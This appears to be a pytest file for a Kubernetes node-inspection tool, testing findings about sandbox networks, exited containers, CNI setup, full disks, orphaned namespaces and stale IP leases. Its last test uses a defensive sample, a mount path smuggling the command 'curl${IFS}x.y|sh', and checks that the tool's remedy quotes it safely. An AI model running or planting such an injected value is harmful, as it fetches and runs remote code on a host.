"""Faults of a node's network and runtime, written down, and what looks alike and is none."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from kubectl_pause.facts.capture import Section
from kubectl_pause.inspect_node import inspect_capture
from tests.nodes.written_nodes import Written, identifier, pod_path, written_node

if TYPE_CHECKING:
    from collections.abc import Mapping

PATH = "/var/run/netns/cni-1"
NODE_NET, POD_NET = 4026531840, 4026532999
PAUSE = Written(400, 390, "pause", (1,), 7, pod_path("u", "a"))
RUNTIME = Written(300, 1, "containerd", cgroup="/system.slice/containerd.service")
"""Started 3 s after the boot, 9000 s ago."""
APP = Written(500, 1, "app", (1,), 9, pod_path("u", "b"))


def node(*processes: Written, mounts: str = "", status: Mapping[str, object] | None = None, **sections: str):
    """Pod default/web on a node whose pid 1 is in the network NODE_NET; `status` is crictl's word on its sandbox."""
    told = {"status": {"id": identifier("a"), "state": "SANDBOX_READY", **(status or {})}, "info": {
        "pid": 400, "netNamespaceClosed": not (status or {}).get("network"),
        "runtimeSpec": {"linux": {"namespaces": [{"type": "network", "path": PATH}]}}}}  # fmt: skip
    more = {"crictl.inspectp": " " + json.dumps(told), "mountinfo": mounts}
    named = {name.replace("_", "-").replace("crictl-", "crictl."): text for name, text in sections.items()}
    capture = written_node(PAUSE, *processes, sections={**more, **named})
    proc = capture.sections["proc"]
    linked = proc.content + f"'1/ns/net' -> 'net:[{NODE_NET}]'\n'400/ns/net' -> 'net:[{POD_NET}]'\n".encode()
    return replace(capture, sections={**capture.sections, "proc": replace(proc, content=linked)})


def mounted(inode: int, path: str = "/run/netns/cni-1", ids: str = "30 20") -> str:
    return f" {ids} 0:4 net:[{inode}] {path} rw shared:1 - nsfs nsfs rw"


def of_sandbox(capture) -> list[str]:
    return [finding.code for sandbox in inspect_capture(capture, "-").sandboxes for finding in sandbox.findings]


def of_node(capture) -> list[str]:
    return [finding.code for finding in inspect_capture(capture, "-").findings]


@pytest.mark.parametrize(
    ("status", "mounts", "codes"),
    [
        ({}, "", ["sandbox/no-ip"]),
        ({"network": {"ip": "10.0.0.9"}}, mounted(POD_NET), []),
        ({"state": "SANDBOX_NOTREADY"}, "", []),
        ({"network": {"ip": "10.0.0.9"}}, mounted(NODE_NET), ["netns/of-node"]),
        ({"network": {"ip": "10.0.0.9"}}, mounted(POD_NET) + "\n" + mounted(NODE_NET), ["netns/of-node"]),
        ({"network": {"ip": "10.0.0.9"}}, mounted(NODE_NET) + "\n" + mounted(POD_NET), []),
        ({"linux": {"namespaces": {"options": {"network": "NODE"}}}}, mounted(NODE_NET), []),
        ({"network": {"ip": "10.0.0.9"}}, mounted(POD_NET) + "\n" + mounted(POD_NET, ids="31 30"), ["netns/pinned"]),
        ({"network": {"ip": "10.0.0.9"}}, mounted(POD_NET) + "\n" + mounted(POD_NET, ids="31 21"), []),
    ],
    ids=[
        "unmounted",
        "well",
        "stopped meanwhile",
        "the node's",
        "the node's above",
        "the node's below",
        "hostNetwork",
        "on itself",
        "in a directory twice",
    ],
)
def test_the_network_of_a_sandbox(status, mounts, codes):
    assert of_sandbox(node(mounts=mounts, status=status)) == codes


WELL = {"network": {"ip": "10.0.0.9"}}


def with_container(state: str, *processes: Written):
    capture = node(*processes, status=WELL, mounts=mounted(POD_NET))
    row = {"id": identifier("b"), "podSandboxId": identifier("a"), "metadata": {"name": "app"}, "state": state}
    listed = Section(json.dumps({"containers": [row]}).encode())
    return replace(capture, sections={**capture.sections, "crictl.ps": listed})


@pytest.mark.parametrize(
    ("state", "processes", "codes"),
    [
        ("CONTAINER_EXITED", [APP], ["container/ghost"]),
        ("CONTAINER_RUNNING", [APP], ["container/no-shim"]),
        ("CONTAINER_EXITED", [replace(APP, state="Z")], []),
        ("CONTAINER_EXITED", [replace(APP, ppid=390), Written(390, 1, "containerd-shim")], []),
        ("CONTAINER_EXITED", [APP, replace(APP, pid=501, ppid=500)], ["container/ghost"]),
        ("CONTAINER_EXITED", [], []),
    ],
    ids=["a ghost", "it runs", "a zombie", "its shim is there", "with a child", "nothing"],
)
def test_processes_of_an_exited_container(state, processes, codes):
    assert [code for code in of_sandbox(with_container(state, *processes)) if not code.startswith("zombie/")] == codes


INFO = {
    "status": {"conditions": [{"type": "NetworkReady", "status": False, "message": "cni plugin not initialized"}]},
    "cniconfig": {"PluginDirs": ["/opt/cni/bin"], "PluginConfDir": "/etc/cni/net.d"},
    "lastCNILoadStatus": "cni config load failed: no network config found in /etc/cni/net.d",
}
READY = {**INFO, "status": {"conditions": [{"type": "NetworkReady", "status": True}]}, "lastCNILoadStatus": "OK"}
CONFIGURED = '/etc/cni/net.d\n{"plugins":[{"type":"ptp","ipam":{"type":"host-local"}}]}'
PROGRAMS = "/opt/cni/bin\nptp\nhost-local"
HUNG = Written(4000, 300, "ptp", cgroup="/system.slice/containerd.service")


@pytest.mark.parametrize(
    ("info", "cni", "programs", "processes", "codes"),
    [
        (READY, CONFIGURED, PROGRAMS, [RUNTIME], []),
        (INFO, "/etc/cni/net.d", PROGRAMS, [RUNTIME], ["cni/no-config"]),
        (INFO, CONFIGURED, PROGRAMS, [RUNTIME], ["cni/not-reloaded"]),
        (INFO, "/etc/cni/net.d", PROGRAMS, [replace(RUNTIME, pid=899_000)], []),
        (READY, CONFIGURED, "/opt/cni/bin\nptp", [RUNTIME], ["cni/no-binary"]),
        (READY, CONFIGURED, "/usr/lib/cni\nptp", [RUNTIME], []),
        (READY, CONFIGURED, PROGRAMS, [RUNTIME, HUNG], ["cni/hung"]),
        (READY, CONFIGURED, PROGRAMS, [RUNTIME, replace(HUNG, pid=899_900)], []),
        (READY, CONFIGURED, PROGRAMS, [RUNTIME, replace(HUNG, comm="unpigz")], []),
        (READY, CONFIGURED, PROGRAMS, [RUNTIME, replace(HUNG, ppid=1)], []),
        (READY, CONFIGURED, PROGRAMS, [RUNTIME, replace(HUNG, state="Z")], []),
    ],
    ids=[
        "well", "no configuration", "one that was not read", "a fresh runtime", "a plugin that is not there", "another folder is asked for",
        "a plugin that hangs", "one at work", "another child", "of no runtime", "dead",
    ],
)  # fmt: skip
def test_the_runtime_of_a_node(info, cni, programs, processes, codes):
    capture = node(*processes, status=WELL, mounts=mounted(POD_NET), crictl_info=" " + json.dumps(info), cni=cni, cni_programs=programs)
    assert [code for code in of_node(capture) if code.startswith("cni/")] == codes


@pytest.mark.parametrize(
    ("line", "codes"),
    [("/run 100 1 50 9", []), ("/run 100 0 50 9", ["disk/full"]), ("/run 100 9 50 0", ["disk/full"]), ("/run 0 0 0 0", [])],
)
def test_a_full_file_system(line, codes):
    capture = node(status=WELL, mounts=mounted(POD_NET), cni="", filesystems=f" {line}")
    assert [code for code in of_node(capture) if code.startswith("disk/")] == codes


@pytest.mark.parametrize(
    ("made", "codes"),
    [
        (f" {1_000_000 - 400} {POD_NET + 1} /run/netns/cni-2", ["namespace/outlived"]),
        (f" {1_000_000 - 200} {POD_NET + 1} /run/netns/cni-2", []),
        (f" {1_000_000 + 50} {POD_NET + 1} /run/netns/cni-2", []),
        (f" {1_000_000 - 400} 77 /run/netns/cni-2", []),
        ("", []),
        (None, ["namespace/outlived"]),
    ],
    ids=["old", "young", "a clock that was set", "unmounted meanwhile", "removed meanwhile", "not looked at"],
)
def test_a_namespace_of_nobody_may_be_that_of_a_sandbox_in_the_making(made, codes):
    """A runtime mounts it before it lists the sandbox."""
    times = {} if made is None else {"netns": made}
    capture = node(status=WELL, mounts=mounted(POD_NET) + "\n" + mounted(POD_NET + 1, "/run/netns/cni-2"), **times)
    assert [code for code in of_node(replace(capture, header={"now": "1000000"})) if code.startswith("namespace/")] == codes


@pytest.mark.parametrize(
    ("sandbox", "made", "codes"),
    [("f", 1_000_000 - 400, ["ipam/stale"]), ("f", 1_000_000 - 100, []), ("a", 1_000_000 - 400, [])],
    ids=["of nobody", "of one in the making", "of a sandbox"],
)
def test_a_lease(sandbox, made, codes):
    leases = f" /run/x\n {made} ./kind/10.0.0.5\n ./kind/10.0.0.5:{identifier(sandbox)}"
    cni = '/etc/cni/net.d\n{"name":"kind","type":"ptp"}'
    capture = node(status=WELL, mounts=mounted(POD_NET), crictl_info=" " + json.dumps(READY), cni=cni, leases=leases)
    report = inspect_capture(replace(capture, header={"now": "1000000"}), "-")
    stale = [finding for finding in report.findings if finding.code.startswith("ipam/")]
    assert [finding.code for finding in stale] == codes
    assert all("rm /run/x/kind/10.0.0.5" in (finding.remedy or "") for finding in stale)


def test_a_place_in_a_remedy_is_quoted():
    """It is what the node says, and could be a command."""
    (full,) = [
        each
        for each in inspect_capture(node(cni="", filesystems=" /run;curl${IFS}x.y|sh;: 10 0 10 5"), "-").findings
        if each.code == "disk/full"
    ]
    assert full.remedy == "on the node: df -h '/run;curl${IFS}x.y|sh;:'; df -i '/run;curl${IFS}x.y|sh;:'"
